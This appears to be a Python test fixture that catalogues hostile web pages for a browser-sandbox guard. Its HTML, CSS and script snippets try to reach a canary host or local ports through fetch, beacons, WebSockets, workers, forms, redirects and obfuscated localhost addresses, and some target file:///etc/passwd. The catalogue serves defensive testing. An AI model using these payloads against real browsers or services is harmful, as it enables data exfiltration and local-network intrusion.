"""The hostile pages of guard_browser.py: what each tries, to reach {c} (http) or {w} (ws)."""

# ruff: noqa: E501 -- an attack reads best on one line

MARKUP = [
    ("img", "<img src={c}/img>"),
    ("srcset", "<img srcset='{c}/srcset 1x'>"),
    ("picture", "<picture><source srcset={c}/picture><img></picture>"),
    ("lazy img", "<img loading=lazy src={c}/lazy>"),
    ("svg image", "<svg><image href={c}/svgimage width=9 height=9 /></svg>"),
    ("svg use", "<svg><use href={c}/svguse#a /></svg>"),
    ("svg feImage", "<svg><filter id=f><feImage href={c}/feimage /></filter><rect filter=url(#f)"
     " width=9 height=9 /></svg>"),
    ("input image", "<input type=image src={c}/input>"),
    ("body background", "<table background={c}/background><tr><td>a</table>"),
    ("style", "<style>b{{background:url({c}/style)}}</style><b>b</b>"),
    ("style attribute", "<p style='background:url({c}/styleattr)'>a"),
    ("border image", "<p style='border:9px solid;border-image:url({c}/border) 9'>a"),
    ("list image", "<ul style='list-style-image:url({c}/list)'><li>a</ul>"),
    ("mask", "<p style='mask-image:url({c}/mask);height:9px'>a"),
    ("filter", "<p style='filter:url({c}/filter#f)'>a"),
    ("cursor", "<p style='cursor:url({c}/cursor),auto'>a"),
    ("shape", "<p style='float:left;shape-outside:url({c}/shape)'>a"),
    ("clip path", "<p style='clip-path:url({c}/clip#c)'>a"),
    ("content", "<style>i::before{{content:url({c}/content)}}</style><i>i</i>"),
    ("image set", "<p style=\"background:image-set('{c}/imageset' 1x)\">a"),
    ("css import", "<style>@import '{c}/import';</style>"),
    ("font", "<style>@font-face{{font-family:f;src:url({c}/font)}}u{{font-family:f}}</style><u>u</u>"),
    ("stylesheet", "<link rel=stylesheet href={c}/sheet>"),
    ("alternate sheet", "<link rel='alternate stylesheet' title=t href={c}/alternate>"),
    ("icon", "<link rel=icon href={c}/icon>"),
    ("touch icon", "<link rel=apple-touch-icon href={c}/touch>"),
    ("preload", "<link rel=preload as=image href={c}/preload>"),
    ("preload font", "<link rel=preload as=font crossorigin href={c}/preloadfont>"),
    ("modulepreload", "<link rel=modulepreload href={c}/modulepreload>"),
    ("prefetch", "<link rel=prefetch href={c}/prefetch>"),
    ("prerender", "<link rel=prerender href={c}/prerender>"),
    ("preconnect", "<link rel=preconnect href={c}/>"),
    ("preconnect cors", "<link rel=preconnect crossorigin href={c}/>"),
    ("dns prefetch", "<link rel=dns-prefetch href=//canary.example/>"),
    ("manifest", "<link rel=manifest href={c}/manifest>"),
    ("search", "<link rel=search type=application/opensearchdescription+xml href={c}/search>"),
    ("iframe", "<iframe src={c}/iframe></iframe>"),
    ("srcdoc", "<iframe srcdoc='<img src={c}/srcdoc>'></iframe>"),
    ("sandboxed", "<iframe sandbox=allow-scripts srcdoc=\"<script>fetch('{c}/sandboxed')</script>\"></iframe>"),
    ("data frame", "<iframe src=\"data:text/html,<img src={c}/dataframe>\"></iframe>"),
    ("data script", "<iframe src=\"data:text/html,<script>fetch('{c}/datascript',{{mode:'no-cors'}})"
     "</script>\"></iframe>"),
    ("script url", "<iframe src=\"javascript:'<img src={c}/scripturl>'\"></iframe>"),
    ("credentialless", "<iframe credentialless src={c}/credentialless></iframe>"),
    ("fenced frame", "<fencedframe src={c}/fenced></fencedframe>"),
    ("object", "<object data={c}/object></object>"),
    ("object pdf", "<object type=application/pdf data={c}/pdf></object>"),
    ("embed", "<embed src={c}/embed>"),
    ("frame in frame", "<iframe srcdoc='<iframe src={c}/nested></iframe>'></iframe>"),
    ("video", "<video autoplay muted src={c}/video></video>"),
    ("poster", "<video poster={c}/poster></video>"),
    ("audio", "<audio autoplay src={c}/audio></audio>"),
    ("source", "<video autoplay muted><source src={c}/source></video>"),
    ("track", "<video autoplay muted crossorigin><track default src={c}/track></video>"),
    ("script", "<script src={c}/script></script>"),
    ("module", "<script type=module src={c}/module></script>"),
    ("module import", "<script type=module>import '{c}/moduleimport'</script>"),
    ("import map", "<script type=importmap>{{\"imports\":{{\"m\":\"{c}/map\"}}}}</script>"
     "<script type=module>import 'm'</script>"),
    ("xml stylesheet", "<iframe src='data:text/xml,<?xml-stylesheet href=\"{c}/xsl\"?><a/>'></iframe>"),
    ("speculation prefetch", "<script type=speculationrules>{{\"prefetch\":[{{\"source\":\"list\",\"urls\":"
     "[\"{c}/specfetch\"],\"eagerness\":\"immediate\"}}]}}</script>"),
    ("speculation prerender", "<script type=speculationrules>{{\"prerender\":[{{\"urls\":"
     "[\"/specrender\"],\"eagerness\":\"immediate\"}}]}}</script>"),
    ("attribution", "<img attributionsrc={c}/attribution src=/x>"),
    ("ping", "<a id=ping ping={c}/ping href=#here>a</a><script>document.getElementById('ping').click()"
     "</script>"),
    ("redirected img", "<img src=/to-canary?img>"),
    ("redirected script", "<script src=/to-canary?script></script>"),
    ("redirected frame", "<iframe src=/to-canary?frame></iframe>"),
    ("refresh in frame", "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url={c}/refreshframe'>\">"
     "</iframe>"),
    ("form in frame", "<iframe srcdoc=\"<form id=f method=post action={c}/formframe></form><script>"
     "f.submit()</script>\"></iframe>"),
    ("file", "<iframe src=file:///etc/passwd></iframe><img src=file:///etc/passwd>"),
    ("view source", "<iframe src=view-source:{c}/viewsource></iframe>"),
    ("filesystem", "<iframe src=filesystem:{c}/temporary/a></iframe>"),
    ("ftp", "<iframe src=ftp://127.0.0.1:{p}/ftp></iframe>"),
    ("devtools", "<iframe src=devtools://devtools/remote/x></iframe>"),
    ("hostname", "<img src=http://localhost:{p}/localhost>"),
    ("decimal", "<img src=http://2130706433:{p}/decimal>"),
    ("hex", "<img src=http://0x7f.1:{p}/hex>"),
    ("ipv6", "<img src=http://[::1]:{p}/v6>"),
    ("mapped", "<img src=http://[::ffff:127.0.0.1]:{p}/mapped>"),
    ("any address", "<img src=http://0.0.0.0:{p}/zero>"),
    ("local name", "<img src=http://canary.localhost:{p}/name>"),
    ("https", "<img src=https://127.0.0.1:{p}/https>"),
]  # fmt: skip
"""Each stands in one page with the others."""

SCRIPTS = [
    ("fetch", "fetch('{c}/fetch')"),
    ("fetch no-cors", "fetch('{c}/nocors',{{mode:'no-cors'}})"),
    ("fetch post", "fetch('{c}/post',{{method:'POST',mode:'no-cors',body:'a'}})"),
    ("fetch put", "fetch('{c}/put',{{method:'PUT'}})"),
    ("fetch keepalive", "fetch('{c}/keepalive',{{keepalive:true,mode:'no-cors'}})"),
    ("fetch later", "fetchLater('{c}/later',{{activateAfter:0}})"),
    ("fetch stream", "fetch('{c}/stream',{{method:'POST',duplex:'half',body:new ReadableStream()}})"),
    ("fetch redirected", "fetch('/to-canary?fetch',{{mode:'no-cors'}})"),
    ("xhr", "x=new XMLHttpRequest();x.open('GET','{c}/xhr');x.send()"),
    ("xhr sync", "x=new XMLHttpRequest();x.open('GET','{c}/xhrsync',false);x.send()"),
    ("xhr preflight", "x=new XMLHttpRequest();x.open('PUT','{c}/preflight');x.setRequestHeader('X-A','a');"
     "x.send()"),
    ("beacon", "navigator.sendBeacon('{c}/beacon','a')"),
    ("event source", "new EventSource('{c}/events')"),
    ("web socket", "new WebSocket('{w}/socket')"),
    ("web socket stream", "new WebSocketStream('{w}/socketstream')"),
    ("web transport", "new WebTransport('https://127.0.0.1:{p}/transport')"),
    ("web rtc stun", "r=new RTCPeerConnection({{iceServers:[{{urls:'stun:127.0.0.1:{p}'}}]}});"
     "r.createDataChannel('a');r.createOffer().then(o=>r.setLocalDescription(o))"),
    ("web rtc turn", "r2=new RTCPeerConnection({{iceTransportPolicy:'relay',iceServers:[{{urls:"
     "'turn:127.0.0.1:{p}?transport=tcp',username:'a',credential:'a'}}]}});r2.createDataChannel('a');"
     "r2.createOffer().then(o=>r2.setLocalDescription(o))"),
    ("web rtc candidate", "r3=new RTCPeerConnection();r3.createDataChannel('a');r3.createOffer().then("
     "async o=>{{await r3.setLocalDescription(o);r4=new RTCPeerConnection();await r4.setRemoteDescription(o);"
     "a=await r4.createAnswer();await r4.setLocalDescription(a);await r3.setRemoteDescription(a);"
     "r3.addIceCandidate({{candidate:'candidate:1 1 udp 2130706431 127.0.0.1 {p} typ host',sdpMid:'0'}})}})"),
    ("image object", "new Image().src='{c}/image'"),
    ("audio object", "new Audio('{c}/audioobject').play()"),
    ("font face", "new FontFace('g','url({c}/fontface)').load()"),
    ("worker", "new Worker(URL.createObjectURL(new Blob([\"fetch('{c}/worker',{{mode:'no-cors'}})\"])))"),
    ("worker import", "new Worker(URL.createObjectURL(new Blob([\"importScripts('{c}/importscripts')\"])))"),
    ("worker module", "new Worker(URL.createObjectURL(new Blob([\"import '{c}/workermodule'\"],"
     "{{type:'text/javascript'}})),{{type:'module'}})"),
    ("worker in worker", "new Worker(URL.createObjectURL(new Blob([\"new Worker(URL.createObjectURL(new Blob(["
     "'fetch(`{c}/nestedworker`,{{mode:`no-cors`}})'])))\"])))"),
    ("worker socket", "new Worker(URL.createObjectURL(new Blob([\"new WebSocket('{w}/workersocket')\"])))"),
    ("shared worker", "new SharedWorker(URL.createObjectURL(new Blob([\"fetch('{c}/sharedworker',"
     "{{mode:'no-cors'}})\"])))"),
    ("service worker", "navigator.serviceWorker.register('/sw.js')"),
    ("worklet", "CSS.paintWorklet&&CSS.paintWorklet.addModule('{c}/worklet')"),
    ("audio worklet", "new OfflineAudioContext(1,1,8000).audioWorklet.addModule('{c}/audioworklet')"),
    ("dynamic import", "import('{c}/dynamic')"),
    ("window open", "window.open('{c}/open')"),
    ("window open noopener", "window.open('{c}/noopener','_blank','noopener')"),
    ("window then lead", "w=window.open('about:blank');if(w)w.location='{c}/led'"),
    ("window writes", "w2=window.open('');if(w2)w2.document.write('<img src={c}/written>')"),
    ("click blank", "a=document.createElement('a');a.href='{c}/blank';a.target='_blank';a.click()"),
    ("download", "a=document.createElement('a');a.href='{c}/download';a.download='a';a.click()"),
    ("form blank", "f=document.createElement('form');f.target='_blank';f.method='post';f.action='{c}/formblank';"
     "document.body.append(f);f.submit()"),
    ("form get frame", "i=document.createElement('iframe');i.name='n';document.body.append(i);"
     "f2=document.createElement('form');f2.target='n';f2.action='{c}/formget';document.body.append(f2);"
     "f2.submit()"),
    ("style sheet object", "s=new CSSStyleSheet();s.replace('b{{background:url({c}/sheetobject)}}');"
     "document.adoptedStyleSheets=[s]"),
    ("insert html", "document.body.insertAdjacentHTML('beforeend','<img src={c}/inserted>')"),
    ("shadow", "d=document.createElement('div');d.attachShadow({{mode:'closed'}}).innerHTML="
     "'<img src={c}/shadow>';document.body.append(d)"),
    ("frame object", "e=document.createElement('iframe');document.body.append(e);"
     "e.contentWindow.fetch('{c}/framefetch',{{mode:'no-cors'}})"),
    ("frame removed", "e2=document.createElement('iframe');document.body.append(e2);F=e2.contentWindow.fetch;"
     "G=F.bind(e2.contentWindow);e2.remove();G('{c}/removed',{{mode:'no-cors'}}).catch(()=>0)"),
    ("notification", "Notification.requestPermission().then(()=>new Notification('a',{{icon:'{c}/note'}}))"),
    ("payment", "new PaymentRequest([{{supportedMethods:'{c}/pay'}}],{{total:{{label:'a',amount:"
     "{{currency:'EUR',value:'1'}}}}}}).canMakePayment()"),
    ("credential", "navigator.credentials.get({{identity:{{providers:[{{configURL:'{c}/fedcm.json',"
     "clientId:'a'}}]}}}})"),
    ("web bundle", "s2=document.createElement('script');s2.type='webbundle';s2.textContent="
     "'{{\"source\":\"{c}/bundle\",\"resources\":[\"{c}/b\"]}}';document.head.append(s2)"),
    ("background fetch", "navigator.serviceWorker.ready.then(r=>r.backgroundFetch.fetch('a','{c}/backfetch'))"),
    ("protocol handler", "navigator.registerProtocolHandler('web+a','/x?%s');location.assign('web+a:b')"),
    ("cache add", "caches.open('a').then(k=>k.add('{c}/cacheadd'))"),
    ("report", "new ReportingObserver(()=>0).observe();document.body.append(Object.assign("
     "document.createElement('script'),{{src:'{c}/reported'}}))"),
    ("trusted navigation", "navigation.navigate('#a');fetch('//127.0.0.1:{p}/schemeless',{{mode:'no-cors'}})"),
    ("private token", "fetch('{c}/token',{{mode:'no-cors',targetAddressSpace:'local'}})"),
    ("view transition", "document.startViewTransition&&document.startViewTransition(()=>new Image().src="
     "'{c}/transition')"),
    ("timer", "setTimeout(()=>fetch('{c}/timer',{{mode:'no-cors'}}),300)"),
    ("unload beacon", "addEventListener('pagehide',()=>navigator.sendBeacon('{c}/pagehide'))"),
]  # fmt: skip
"""Each stands in one page with the others, in a script element of its own."""

LEADING = [
    ("refresh", "<meta http-equiv=refresh content='0;url={c}/refresh'>"),
    ("location", "<script>location='{c}/location'</script>"),
    ("location replace", "<script>location.replace('{c}/replace')</script>"),
    ("top from frame", "<iframe srcdoc=\"<script>top.location='{c}/top'</script>\"></iframe>"),
    ("form", "<form id=f method=post action={c}/form></form><script>f.submit()</script>"),
    ("form get", "<form id=f action={c}/formtop></form><script>f.submit()</script>"),
    ("redirected", "<script>location='/to-canary?leading'</script>"),
    ("refresh twice", "<meta http-equiv=refresh content='0;url=/leads-on'>"),
    ("data url", "<script>location='data:text/html,<img src={c}/topdata>'</script>"),
    ("blob url", "<script>location=URL.createObjectURL(new Blob(['<img src={c}/topblob>'],"
     "{{type:'text/html'}}))</script>"),
    ("file url", "<script>location='file:///etc/passwd'</script>"),
    ("chrome url", "<script>location='chrome://version'</script>"),
    ("on unload", "<script>addEventListener('beforeunload',e=>{{fetch('{c}/unload',{{keepalive:true,"
     "mode:'no-cors'}});e.preventDefault()}});location='/honest'</script>"),
]  # fmt: skip
"""Each is a page of its own, because it leads away."""
